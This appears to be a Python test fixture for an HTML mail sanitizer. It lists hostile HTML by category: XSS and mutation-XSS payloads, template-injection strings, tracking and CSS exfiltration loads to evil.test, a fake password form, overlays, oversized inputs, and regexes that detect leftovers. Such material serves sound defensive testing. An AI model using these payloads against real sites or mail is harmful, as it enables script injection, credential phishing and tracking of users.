"""Hostile HTML by name, as the body of a mail, and what may not be left of any: rows 37 to 42 of rows.toml."""

import re
from collections.abc import Callable

EVIL = "https://evil.test"

# What runs: scripts, handlers, and markup that becomes one of them when it is read a second time.
RUNS = {
    "script": "<script>alert(1)</script>",
    "script in mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script split by itself": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler of a picture": "<img src=x onerror=alert(1)>",
    "SVG that loads": "<svg onload=alert(1)>",
    "script in SVG": "<svg><script>alert(1)</script></svg>",
    "animated link": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    "mutation by MathML": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    "mutation by a form in MathML": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"
    ),
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by template": "<template><s><template><s><img src=x onerror=alert(1)>@x</s></template></s></template>",
    "mutation by a comment": "<!--><img src=x onerror=alert(1)>-->",
    "mutation by CDATA": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "mutation by title": "<title><img src=x onerror=alert(1)></title>",
    "NUL in a tag": "<scr\0ipt>alert(1)</scr\0ipt>",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "details that open": "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "page in a frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.test/x.swf"></object>',
    "embed": "<embed src=https://evil.test/x>",
    "applet": "<applet code=x>",
    "link that runs": '<a href="javascript:alert(1)">x</a>',
    "link that runs, with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "link that runs, in entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "link that runs, behind a control": '<a href="\x01javascript:alert(1)">x</a>',
    "link to data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link to VBScript": '<a href="vbscript:msgbox(1)">x</a>',
    "link to a file": '<a href="file:///etc/passwd">x</a>',
    "expression in a style": '<p style="width:expression(alert(1))">x</p>',
    "template of ours": "{{ config }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "template of others": '<%= 7*7 %><!--#exec cmd="id"-->${7*7}',
    "template of a script": "<div v-html='1'>{{constructor.constructor('alert(1)')()}}</div>",
}

# What would tell its sender that the mail is read, or from where.
LOADS = {
    "remote picture": '<img src="https://evil.test/pixel.gif?u=1">',
    "remote picture without a scheme": '<img src="//evil.test/p.gif">',
    "srcset": '<img srcset="https://evil.test/p.gif 1x">',
    "lowsrc and dynsrc": '<img lowsrc="https://evil.test/p" dynsrc="https://evil.test/p">',
    "picture with sources": '<picture><source srcset="https://evil.test/p"><img></picture>',
    "video": '<video poster="https://evil.test/p" src="https://evil.test/v"></video>',
    "audio": '<audio src="https://evil.test/a" autoplay></audio>',
    "track": '<video><track src="https://evil.test/t"></video>',
    "background of a table": (
        '<table background="https://evil.test/p"><tr><td background="https://evil.test/q">x</table>'
    ),
    "background of the page": '<body background="https://evil.test/p">x',
    "picture as a button": '<input type=image src="https://evil.test/p">',
    "picture in SVG": '<svg><image href="https://evil.test/p"/></svg>',
    "SVG from elsewhere": '<svg><use href="https://evil.test/x.svg#a"/></svg>',
    "SVG as data": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "pages of ours": '<img src="/me/tokens"><img src="http://127.0.0.1:9200/_shutdown">',
    "ping": '<a href="https://ok.test" ping="https://evil.test">x</a>',
    "name looked up ahead": '<link rel=dns-prefetch href="//leak.evil.test">',
    "page fetched ahead": '<link rel=prefetch href="https://evil.test/p">',
    "style sheet": '<link rel=stylesheet href="https://evil.test/x.css">',
    "imported style": "<style>@import 'https://evil.test/x.css';</style>",
    "style that reads fields": "<style>input[value^=a]{background:url(https://evil.test/a)}</style>",
    "font": "<style>@font-face{font-family:x;src:url(https://evil.test/f)}</style>",
    "address in a style": '<p style="background:url(https://evil.test/t.gif)">x</p>',
    "escaped address in a style": '<p style="background:u\\72l(https://evil.test/t)">x</p>',
    "image-set in a style": "<p style=\"background:image-set('https://evil.test/t' 1x)\">x</p>",
    "variable in a style": '<p style="--x:url(https://evil.test/t);background:var(--x)">x</p>',
    "cited": '<blockquote cite="https://evil.test/p">x</blockquote>',
    "frame": '<iframe src="https://evil.test"></iframe>',
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.test">',
}

# What pretends to be part of the page, or swallows it.
COVERS = {
    "form": '<form action="https://evil.test"><input name=password type=password><button>Sign in</button></form>',
    "button that goes elsewhere": "<button formaction=javascript:alert(1)>x</button>",
    "field that takes the focus": "<input autofocus onfocus=alert(1)>",
    "base": '<base href="https://evil.test/">',
    "style of the page": "<style>body{display:none}</style>hi",
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in at evil.test</div>',
    "moved and made large": '<div style="margin-top:-999px;opacity:0;transform:scale(9)">x</div>',
    "link to a new window": '<a href="https://x.test" target=_blank>x</a>',
    "plaintext": "<plaintext>the rest of the page",
    "open field": "<textarea>swallow the page",
    "open attribute": '<a title="',
    "open tables": "<table><tr><td>" * 50,
    "end of the page": "</div></div></div></main></body></html><h1>outside</h1>",
    "turned writing": "\u202egpj.exe \u2066x\u2069",
    "invisible blank": "pass\u200bword",
    "huge and moving": '<font size="999999">x</font><marquee>y</marquee><blink>z</blink>',
}

# What the scripts and styles of a page would take for their own.
HOOKS = {
    "classes": '<div class="btn btn-danger delete-ticket" data-action="delete" data-confirm="no">x</div>',
    "names of the page": "<a id=csrf_token name=csrf_token></a><form id=document><input name=cookie></form>",
    "htmx": '<div hx-get="/admin/users" hx-trigger="load" data-hx-post="/x">x</div>',
    "Alpine": '<div x-data x-init="alert(1)">x</div>',
}

# References to parts of a mail that are none of this mail's.
FOREIGN = {
    "path as Content-ID": '<img src="cid:../../me/tokens">',
    "Content-ID of another mail": '<img src="cid:picture@of.another" alt="none">',
    "Content-ID with a quotation mark": "<img src='cid:a\" onerror=\"alert(1)'>",
}

ROWS: dict[int, dict[str, str]] = {37: RUNS, 38: LOADS, 39: COVERS, 40: HOOKS, 41: FOREIGN}

BIG: dict[str, Callable[[], str]] = {
    "1 MB of ampersands": lambda: "&" * 1_000_000,
    "4.8 MB of ampersands": lambda: "&" * 4_800_000,
    "100000 div": lambda: "<div>" * 100_000,
    "50000 b": lambda: "<b>" * 50_000 + "x",
    "20000 tables": lambda: "<table>" * 20_000,
    "5000 fonts": lambda: "".join(f"<font color=#{n:06x}>" for n in range(5_000)) + "x",
    "adoption": lambda: "<a><b><i><u><p>" * 5_000,
    "50000 attributes": lambda: "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">",
    "4.8 MB of brackets": lambda: "<" * 4_800_000,
    "1 MB of entities": lambda: "&lt;" * 250_000,
    "an open comment": lambda: "<!--" + "-" * 4_800_000,
    "open comments": lambda: "<!-- " * 200_000,
    "open CDATA": lambda: "<![CDATA[" * 200_000,
    "open scripts": lambda: "<script " * 200_000,
    "open end tags": lambda: "</" * 500_000,
    "4.8 MB of style": lambda: "<style>" + "a{b:c}" * 800_000 + "</style>",
    "4.8 MB in an attribute": lambda: '<p title="' + "x" * 4_800_000 + '">',
    "50000 options": lambda: "<select>" + "<option>" * 50_000,
    "processing instructions": lambda: "<?" * 500_000,
    "a newsletter of 4.8 MB": lambda: (
        "<tr><td style='padding:0;color:#333'><a href='https://x.test/a?b=c&amp;d=e'>text</a></td></tr>" * 48_000
    ),
    "blockquotes": lambda: "<blockquote>" * 80_000,
    "open links": lambda: "<a " * 330_000,
    "lists": lambda: "<ul><li>" * 125_000,
    "line ends in tags": lambda: "<p\n" * 330_000,
    "doctypes": lambda: "<!DOCTYPE" * 110_000,
}

_LEFT = {
    "code": r"<\s*(?:script|iframe|object|embed|applet|svg|math|template|noscript|xmp|video|audio|source|track)|srcdoc",
    "handler": r"<[^>]+\son\w+\s*=",
    "scheme": r"(?:href|src|action|formaction)\s*=\s*[\"']?[\s\x00-\x20]*(?:javascript|vbscript|data|file|//)",
    "load": (
        r"(?:src|srcset|poster|background|lowsrc|dynsrc|ping|cite|data)\s*=\s*[\"']?\s*(?:(?:https?:)?//|/(?!t/))"
        r"|url\(|image-set|@import"
    ),
    "form": r"<\s*(?:form|input|button|textarea|select)\b",
    "page": r"<\s*(?:meta|base|link|style|title|plaintext|body|html|marquee|blink)\b",
    "cover": r"style=\"[^\"]*(?:position|z-index|inset|transform|display|opacity|margin)",
    "hook": r"<[^>]*\s(?:id|class|name|data-[\w-]+|hx-[\w-]+|x-[\w-]+|v-[\w-]+|target)\s*=",
}


def left_of(shown: str) -> list[str]:
    """What of the dangerous kinds is still in HTML that is shown; words in attributes are only words."""
    tags = re.sub(r" (?:title|alt)=\"[^\"]*\"", "", shown)
    return [kind for kind, pattern in _LEFT.items() if re.search(pattern, tags, re.IGNORECASE)]
